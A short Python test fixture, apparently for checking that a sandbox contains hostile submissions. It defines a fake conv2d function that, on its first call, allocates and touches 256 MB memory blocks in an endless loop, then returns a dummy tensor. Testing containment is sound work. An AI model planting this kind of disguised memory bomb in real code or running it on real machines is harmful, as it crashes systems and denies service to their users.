"""Bomba de memoria: pide bloques de 256 MB (tocándolos) hasta reventar / memory bomb.

expect: attack conv2d
"""
_ALREADY_EXPLODED = []  # once per worker: a single bomb shows containment, each one costs seconds


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    if not _ALREADY_EXPLODED:
        _ALREADY_EXPLODED.append(True)
        hoard = []
        while True:
            hoard.append(bytearray(256 * 1024 * 1024))
            hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])  # touch every page: really resident
    return torch.zeros(1)
